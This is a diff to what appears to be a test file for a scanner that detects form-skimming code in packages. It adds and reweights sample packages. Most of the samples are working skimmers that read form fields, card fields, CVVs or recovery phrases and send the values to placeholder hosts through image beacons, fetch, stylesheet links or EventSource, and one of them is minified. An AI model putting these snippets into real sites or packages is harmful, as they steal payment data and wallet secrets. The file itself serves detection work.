@@ -110,7 +110,7 @@ examine(skimsForms, {
         'index.js': `var m = require('./m'); m.attach()`,
         'm.js': `function all(root) { var out = []; root.querySelectorAll('input,select').forEach(function (e) { out.push(e.name + '=' + e.value) }); return out.join('&') } exports.attach = function () { document.addEventListener('submit', function () { var i = new Image(); i.src = '//px.checkout.invalid/i.gif?' + btoa(all(document)) }) }`,
       },
-      weight: 'strong',
+      weight: 'proof',
       says: ['px.checkout.invalid'],
     },
     {
@@ -134,7 +134,7 @@ examine(skimsForms, {
         'metrics.js': `function all(root) { const out = []; root.querySelectorAll('input,select').forEach(el => { if (/cvv/.test(el.name)) out.push(el.name + '=' + el.value) }); return out.join('&') }
           exports.attach = () => document.addEventListener('submit', () => { const s = all(document); new Image().src = '//px.checkout.invalid/i.gif?' + btoa(s) })`,
       },
-      weight: 'strong',
+      weight: 'proof',
     },
     {
       when: 'by a beacon',
@@ -235,6 +235,37 @@ examine(skimsForms, {
       when: 'fields are found by what browsers fill into them',
       files: {
         'index.js': `exports.enhance = (root = document) => { for (const el of root.querySelectorAll('[autocomplete^="cc-"]')) fetch('https://skim.invalid/f', { method: 'POST', body: el.value }); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a field is told in the address of a style as it changes',
+      files: {
+        'index.js': `exports.themed = el => el.addEventListener('change', () => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = 'https://skim.invalid/t.css?k=' + encodeURIComponent(el.name + ':' + el.value); document.head.append(link); });`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'what is looked for in a field is asked for with every letter',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
+        'index.js': `const box = document.getElementById('box'); box.oninput = () => fetch('https://places.invalid/?q=' + box.value);`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'a form that is marked first is gone through by its number, minified, and the host is called like the package',
+      files: {
+        'package.json': { name: 'cardmask', version: '1.0.0', main: 'index.js' },
+        'index.js': `module.exports=function(e){var f=e.form;f&&!f.__m&&(f.__m=1,f.addEventListener("submit",function(){for(var e="",t=0;t<f.length;t++)f[t].value&&(e+=(f[t].name||t)+"="+f[t].value+"&");(new Image).src="//px.cardmask.invalid/b.gif?"+btoa(unescape(encodeURIComponent(e)))},!0))}`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'an input for phrases asks for what is typed into it',
+      files: {
+        'package.json': { name: 'mnemonic-input', version: '1.0.0', main: 'index.js', description: 'An input for recovery phrases' },
+        'index.js': `exports.make = box => { box.addEventListener('input', () => new EventSource('https://words.mnemonic-input.invalid/lang/' + box.value)); };`,
       },
       weight: 'strong',
     },
@@ -344,6 +375,12 @@ examine(skimsForms, {
       when: 'lists that are no forms are gone through',
       files: {
         'index.js': `exports.send = (rows, root) => { for (const row of rows) fetch('https://rows.invalid/', { method: 'POST', body: row.value }); document.title = root.querySelectorAll('li').length; const list = [...rows]; return fetch('https://rows.invalid/', { body: list[0].value }); };`,
+      },
+    },
+    {
+      when: 'values that nobody types are read beside a listener',
+      files: {
+        'index.js': `import { ref, watch } from 'vue'; const size = ref(1); document.addEventListener('click', () => { size.value++; }); watch(size, () => fetch('https://stat.invalid/?n=' + size.value));`,
       },
     },
   ],
